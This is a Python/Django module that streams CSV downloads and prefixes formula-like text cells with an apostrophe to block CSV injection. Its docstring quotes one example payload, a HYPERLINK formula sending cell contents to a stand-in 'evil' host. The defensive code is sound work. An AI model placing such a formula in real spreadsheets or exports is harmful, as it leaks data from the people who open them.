"""Every CSV the portal hands out is written here, with formula prefixes neutralised.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by spreadsheet programs (CSV injection): a reason such as
``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet. Such text cells get a leading
apostrophe, as OWASP recommends; numbers (``-3``, ``+1.5``) stay numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

from django.http import StreamingHttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Said out loud: without a charset, HTTP clients and spreadsheets read text/csv as Latin-1.
CONTENT_TYPE = "text/csv; charset=utf-8"
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def neutralise(value: Any) -> Any:
    """``value`` made safe to open in a spreadsheet; non-text values pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _NUMBER.match(value):
        return "'" + value
    return value


def safe_rows(rows: Iterable[Iterable[Any]]) -> Iterable[list[Any]]:
    for row in rows:
        yield [neutralise(value) for value in row]


class _Echo:
    """File-like object whose write returns the line, for streaming."""

    def write(self, value: str) -> str:
        return value


def csv_response(rows: Iterable[Iterable[Any]], filename: str) -> StreamingHttpResponse:
    """A streamed CSV download of ``rows``."""
    writer = csv.writer(_Echo())
    response = StreamingHttpResponse(
        (writer.writerow(row) for row in safe_rows(rows)), content_type=CONTENT_TYPE
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def write_csv(stream: TextIO, rows: Iterable[Iterable[Any]]) -> None:
    """``rows`` as CSV onto ``stream`` (a management command's stdout)."""
    csv.writer(stream).writerows(safe_rows(rows))
